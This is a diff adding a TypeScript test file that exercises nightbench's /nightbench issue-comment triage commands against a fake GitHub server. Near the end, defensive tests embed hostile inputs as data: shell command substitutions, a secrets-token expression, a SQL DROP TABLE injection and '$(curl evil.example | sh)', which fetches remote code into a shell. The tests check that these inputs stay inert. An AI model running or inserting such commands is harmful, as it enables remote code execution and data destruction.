@@ -1,0 +1,253 @@
+/**
+ * `/nightbench` comments end to end against the local GitHub-shaped server: a real history with
+ * a planted regression, its issue opened by the real publish step, then the comment event, the
+ * permission check through the API, and the effect on the episodes, the history and the issue.
+ */
+import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { LoadedConfig } from '../../src/config/load.js';
+import { configSchema } from '../../src/config/schema.js';
+import { detectRegressions } from '../../src/detect/index.js';
+import { createGitHubClient } from '../../src/github/client.js';
+import { publishIssues } from '../../src/github/publish.js';
+import { openHistory } from '../../src/history/open.js';
+import type { HistoryStore } from '../../src/history/store.js';
+import { silentLog } from '../../src/log.js';
+import { collectNightSummary } from '../../src/actions/summary-data.js';
+import { renderNightSummary } from '../../src/actions/night-summary.js';
+import { renderQualityPage } from '../../src/report/render-quality.js';
+import { detectionQuality } from '../../src/triage/quality.js';
+import { runTriage, type TriageOutcome } from '../../src/github/triage.js';
+import { runCli } from '../helpers/cli.js';
+import { FakeGitHub, fakeBotLogin, type FakeRole } from '../helpers/fake-github.js';
+import { writeSyntheticHistory, type SyntheticHistory } from '../helpers/synthetic-history.js';
+
+const repository = 'acme/perf';
+let dir: string;
+let store: HistoryStore;
+let history: SyntheticHistory;
+let fake: FakeGitHub;
+let loaded: LoadedConfig;
+
+async function night(index: number) {
+  const report = detectRegressions(store, loaded.config.detection, { now: history.nights[index] });
+  return publishIssues({ report, store, loaded, env: { GITHUB_TOKEN: 't0ken' }, log: silentLog });
+}
+
+/** A person comments on issue #1; nightbench handles the event. */
+async function comment(login: string, body: string, role?: FakeRole): Promise<TriageOutcome> {
+  if (role) fake.setRole(repository, login, role);
+  const written = fake.addComment(repository, 1, login, body);
+  const client = createGitHubClient(loaded.config.github, 't0ken', silentLog);
+  return runTriage(
+    { client, store, log: silentLog },
+    { repository, issueNumber: 1, defaultBranch: 'main', comment: { id: written.id, body, author: login, authorIsBot: login.endsWith('[bot]'), at: written.createdAt } },
+  );
+}
+
+const issue = () => fake.issue(repository, 1);
+const states = () => store.episodes().map((e) => e.state);
+const quality = () => detectionQuality(store.episodes(), store.triageEvents(), { now: new Date('2026-12-31T00:00:00Z'), threshold: () => 0.1 });
+
+beforeEach(async () => {
+  dir = mkdtempSync(path.join(tmpdir(), 'nightbench-triage-'));
+  store = openHistory(path.join(dir, 'history.sqlite'));
+  // Two workloads slow down 2x on night 8 (one issue), and come back on night 10.
+  history = writeSyntheticHistory(store, {
+    seed: 11, workloads: ['sum', 'shuffle'], metrics: [{ name: 'wall_time', unit: 's' }], nights: 12, repeats: 5, noise: 0.02, firstNight: '2026-11-20',
+    changes: ['sum', 'shuffle'].map((workload) => ({ workload, metric: 'wall_time', night: 8, factor: 2, recoversAt: 10 })),
+  });
+  fake = await new FakeGitHub().start();
+  fake.addRepository(repository);
+  loaded = { config: configSchema.parse({ github: { repository, apiUrl: fake.baseUrl, waitUnitMs: 1, writeSpacingMs: 0, notifySpacingMs: 0 } }), baseDir: dir };
+  fake.now = new Date(`${history.nights[8]}T06:00:00Z`);
+  for (let i = 0; i <= 8; i++) await night(i);
+  expect(fake.issues(repository)).toHaveLength(1);
+  expect(states()).toEqual(['open', 'open']);
+  fake.now = new Date(`${history.nights[8]}T10:00:00Z`);
+});
+
+afterEach(async () => {
+  store.close();
+  await fake.stop();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+describe('/nightbench commands on a regression issue', () => {
+  it('accept from a maintainer: the episodes end accepted, the issue closes labelled, the next night leaves it closed', async () => {
+    const before = fake.requests.length;
+    const outcome = await comment('mia', '/nightbench accept', 'maintain');
+    expect(outcome).toMatchObject({ result: 'done', command: 'accept', episodes: 2 });
+    expect(fake.requests.slice(before).map((r) => `${r.method} ${r.path.replace(`/repos/${repository}`, '')}`)).toEqual([
+      'GET /issues/1', 'GET /issues/1/comments', 'GET /collaborators/mia/permission', 'POST /issues/1/labels', 'POST /issues/1/comments', 'PATCH /issues/1',
+    ]);
+    expect(states()).toEqual(['accepted', 'accepted']);
+    expect(issue()).toMatchObject({ state: 'closed', state_reason: 'completed' });
+    expect(issue().labels).toContain('nightbench:accepted');
+    expect(issue().comments.at(-1)).toMatchObject({ login: fakeBotLogin });
+    expect(issue().comments.at(-1)!.body).toMatch(/^<!-- nightbench:reply-to=\d+ -->\n@mia Accepted as intended/);
+    expect(store.triageEvents()).toMatchObject([{ issueNumber: 1, command: 'accept', author: 'mia', issueOpenedAt: `${history.nights[8]}T06:00:00.000Z` }]);
+    expect(quality().all).toMatchObject({ opened: 1, truePositive: 1, falsePositive: 0, precision: 1, medianTriageHours: 4 });
+
+    const comments = issue().comments.length;
+    const next = await night(9);
+    expect(next.actions).toEqual([]);
+    expect(fake.issues(repository)).toHaveLength(1);
+    expect(issue()).toMatchObject({ state: 'closed' });
+    expect(issue().comments).toHaveLength(comments);
+  });
+
+  it('false-alarm from an admin: a false positive in the history and the precision, the issue closed as not planned', async () => {
+    const outcome = await comment('ana', '/nightbench false-alarm', 'admin');
+    expect(outcome).toMatchObject({ result: 'done', command: 'false-alarm', episodes: 2 });
+    expect(issue()).toMatchObject({ state: 'closed', state_reason: 'not_planned' });
+    expect(issue().labels).toContain('nightbench:false-alarm');
+    const falseAlarms = store.falseAlarmEpisodes();
+    expect(falseAlarms.map((f) => `${f.workload} ${f.metric} #${f.issueNumber}`).sort()).toEqual(['shuffle wall_time #1', 'sum wall_time #1']);
+    expect(falseAlarms.every((f) => f.firstBadNight === history.nights[8] && f.ratio > 1.5 && f.baselineNoise > 0)).toBe(true);
+    expect(quality().all).toMatchObject({ truePositive: 0, falsePositive: 1, precision: 0 });
+    expect(quality().falseAlarms.map((f) => f.workload).sort()).toEqual(['shuffle', 'sum']);
+  });
+
+  it.each(['bisect', 'rerun'] as const)('%s from a writer dispatches bisect.yml on the default branch with the issue and the mode', async (mode) => {
+    const outcome = await comment('wes', `/nightbench ${mode}`, 'write');
+    expect(outcome).toMatchObject({ result: 'done', command: mode, dispatched: { workflow: 'bisect.yml', ref: 'main', inputs: { issue: '1', mode } } });
+    expect(fake.dispatches(repository)).toEqual([{ workflow: 'bisect.yml', ref: 'main', inputs: { issue: '1', mode } }]);
+    expect(fake.requests.filter((r) => r.method === 'POST' && r.path === `/repos/${repository}/actions/workflows/bisect.yml/dispatches`)).toHaveLength(1);
+    expect(states()).toEqual(['open', 'open']);
+    expect(issue().state).toBe('open');
+    expect(store.triageEvents().map((e) => e.command)).toEqual([mode]);
+  });
+
+  it('fixed-by records the fix; the nightly closes the issue naming it once the series recover, and the verdict is a fixed true positive', async () => {
+    const outcome = await comment('mia', '/nightbench fixed-by 0123ABC thanks', 'maintain');
+    expect(outcome).toMatchObject({ result: 'done', command: 'fixed-by' });
+    expect(issue().state).toBe('open');
+    expect(issue().labels).toContain('nightbench:fix-recorded');
+    expect(store.triageEvents()).toMatchObject([{ command: 'fixed-by', argument: '0123abc' }]);
+    expect(quality().all).toMatchObject({ open: 1, truePositive: 0 });
+
+    await night(9);
+    await night(10);
+    const recovered = await night(11);
+    expect(recovered.actions.map((a) => a.kind)).toEqual(['close']);
+    expect(issue().state).toBe('closed');
+    expect(issue().comments.at(-1)!.body).toContain('Fixed by `0123abc`');
+    expect(quality().all).toMatchObject({ truePositive: 1, falsePositive: 0, precision: 1, open: 0 });
+    expect(quality().issues[0]).toMatchObject({ reason: 'fixed', fixedBy: '0123abc' });
+    expect(quality().all.medianFixDays).toBeGreaterThan(2);
+  });
+
+  it.each([
+    ['an outsider', 'olly', undefined],
+    ['a reader', 'rita', 'read'],
+    ['a triager', 'tom', 'triage'],
+  ] as const)('%s gets a polite reply and nothing changes', async (_who, login, role) => {
+    const before = fake.writes().length;
+    const outcome = await comment(login, '/nightbench accept', role);
+    expect(outcome.result).toBe('refused');
+    expect(states()).toEqual(['open', 'open']);
+    expect(issue().state).toBe('open');
+    expect(store.triageEvents()).toEqual([]);
+    expect(fake.dispatches(repository)).toEqual([]);
+    expect(fake.writes().slice(before).map((r) => `${r.method} ${r.path}`)).toEqual([`POST /repos/${repository}/issues/1/comments`]);
+    expect(issue().comments.at(-1)!.body).toContain(`@${login} thank you. Only people with write, maintain or admin access`);
+    expect(fake.requests.some((r) => r.path === `/repos/${repository}/collaborators/${login}/permission`)).toBe(true);
+  });
+
+  it('answers an unknown command with the list of commands, and changes nothing', async () => {
+    const outcome = await comment('mia', '/nightbench revert-it-all', 'maintain');
+    expect(outcome.result).toBe('unknown-command');
+    for (const usage of ['/nightbench accept', '/nightbench false-alarm', '/nightbench bisect', '/nightbench rerun', '/nightbench fixed-by SHA']) expect(issue().comments.at(-1)!.body).toContain(`\`${usage}\``);
+    expect(states()).toEqual(['open', 'open']);
+    expect(store.triageEvents()).toEqual([]);
+  });
+
+  it('acts once on a comment handled twice (a workflow run again), and never on its own replies or plain comments', async () => {
+    await comment('mia', '/nightbench bisect', 'maintain');
+    const client = createGitHubClient(loaded.config.github, 't0ken', silentLog);
+    const first = issue().comments[0]!;
+    const again = await runTriage({ client, store, log: silentLog }, { repository, issueNumber: 1, defaultBranch: 'main', comment: { id: first.id, body: first.body, author: 'mia', authorIsBot: false, at: first.createdAt } });
+    expect(again.result).toBe('already-answered');
+    expect(fake.dispatches(repository)).toHaveLength(1);
+    const replies = issue().comments.length;
+    expect((await comment(fakeBotLogin, issue().comments.at(-1)!.body)).result).toBe('not-a-command');
+    expect((await comment('mia', 'Looks like the scheduler change. /nightbench is great', 'maintain')).result).toBe('not-a-command');
+    expect(issue().comments.length).toBe(replies + 2);
+  });
+});
+
+describe('verdicts in the figures', () => {
+  const summary = () => renderNightSummary(collectNightSummary(store, { night: history.nights[8], detect: false }));
+  const page = () => renderQualityPage(quality(), '2026-12-31T00:00:00Z', (n) => `https://github.example/issues/${n}`);
+
+  it('a verdict changes the precision in the night\'s summary and on the Detection quality page', async () => {
+    expect(summary()).toContain('### Detection quality\n\n1 issue opened · precision — (0 true, 0 false positives) · 0 closed without a verdict · 1 open');
+    expect(page()).toContain('id="quality-all" data-precision=""');
+    await comment('ana', '/nightbench false-alarm', 'admin');
+    expect(summary()).toContain('1 issue opened · precision 0% (0 true, 1 false positive) · 0 closed without a verdict · 0 open');
+    expect(summary()).toMatch(/\| dask \| 1 \| 0 \| 1 \| 0 \| 0 \| 0% \| 4\.0 h \| — \|/);
+    expect(summary()).toContain('Most false alarms:\n- dask/');
+    expect(page()).toContain('id="quality-all" data-precision="0"');
+    expect(page()).toMatch(/<tr data-workload="(sum|shuffle)" data-advice="(more-repeats|higher-threshold)">/);
+  });
+});
+
+describe('nightbench triage (the CLI, as the workflow runs it)', () => {
+  it('reads the issue_comment event from GITHUB_EVENT_PATH and keeps a hostile comment as text', async () => {
+    fake.setRole(repository, 'mia', 'maintain');
+    const marker = path.join(dir, 'pwned');
+    const body = `/nightbench false-alarm $(touch ${marker}) \`touch ${marker}\` \${{ secrets.GITHUB_TOKEN }} '; DROP TABLE regressions; --`;
+    const written = fake.addComment(repository, 1, 'mia', body);
+    const event = path.join(dir, 'event.json');
+    writeFileSync(event, JSON.stringify({
+      action: 'created',
+      issue: { number: 1, title: 'Performance regression', body: issue().body },
+      comment: { id: written.id, body, user: { login: 'mia', type: 'User' }, created_at: written.createdAt },
+      repository: { full_name: repository, default_branch: 'main' },
+    }));
+    const config = path.join(dir, 'nightbench.config.json');
+    writeFileSync(config, JSON.stringify({ github: { repository, apiUrl: fake.baseUrl, waitUnitMs: 1, writeSpacingMs: 0, notifySpacingMs: 0 } }));
+    store.close();
+    const result = await runCli(['triage', '--config', config, '--db', path.join(dir, 'history.sqlite'), '--json'], { cwd: dir, env: { GITHUB_TOKEN: 't0ken', GITHUB_EVENT_PATH: event } });
+    store = openHistory(path.join(dir, 'history.sqlite'));
+    expect(result.code, result.stderr).toBe(0);
+    expect(result.stderr).toContain('mia gave false-alarm on #1 (2 episodes)');
+    expect(JSON.parse(result.stdout)).toMatchObject({ result: 'done', command: 'false-alarm', episodes: 2 });
+    expect(existsSync(marker)).toBe(false);
+    expect(store.triageEvents()[0]!.argument).toBe(body.slice('/nightbench false-alarm '.length));
+    expect(store.episodes()).toHaveLength(2);
+    // The reply names nothing of the comment's text.
+    expect(issue().comments.at(-1)!.body).not.toMatch(/touch|secrets|DROP/);
+    expect(issue().state).toBe('closed');
+  }, 60_000);
+
+  it('by hand: reads a comment by id from GitHub; a bad event file is one clear line and exit 2', async () => {
+    fake.setRole(repository, 'wes', 'write');
+    const written = fake.addComment(repository, 1, 'wes', '/nightbench rerun');
+    const config = path.join(dir, 'nightbench.config.json');
+    writeFileSync(config, JSON.stringify({ github: { repository, apiUrl: fake.baseUrl, waitUnitMs: 1, writeSpacingMs: 0, notifySpacingMs: 0 } }));
+    const db = path.join(dir, 'history.sqlite');
+    const byId = await runCli(['triage', '--config', config, '--db', db, '--issue', '1', '--comment-id', String(written.id)], { cwd: dir, env: { GITHUB_TOKEN: 't0ken', GITHUB_EVENT_PATH: undefined } });
+    expect(byId.code, byId.stderr).toBe(0);
+    expect(byId.stdout).toBe('#1: done (rerun, 2 episodes)\n');
+    expect(fake.dispatches(repository)).toEqual([{ workflow: 'bisect.yml', ref: 'main', inputs: { issue: '1', mode: 'rerun' } }]);
+
+    const event = path.join(dir, 'event.json');
+    writeFileSync(event, JSON.stringify({ action: 'created', issue: { number: 1 }, comment: { id: 5, body: '/nightbench accept' } }));
+    const bad = await runCli(['triage', '--config', config, '--db', db, '--event', event], { cwd: dir, env: { GITHUB_TOKEN: 't0ken' } });
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toBe(`nightbench: issue_comment event ${event}: comment.user: Invalid input: expected object, received undefined (and 2 more)\n`);
+    expect(states()).toEqual(['open', 'open']);
+  }, 60_000);
+
+  it('refuses a fixed-by whose commit is a command substitution, saying what a commit looks like', async () => {
+    const outcome = await comment('mia', '/nightbench fixed-by $(curl evil.example | sh)', 'maintain');
+    expect(outcome.result).toBe('invalid');
+    expect(issue().comments.at(-1)!.body).toContain('fixed-by needs the fixing commit');
+    expect(issue().comments.at(-1)!.body).not.toContain('curl');
+    expect(store.triageEvents()).toEqual([]);
+  });
+});
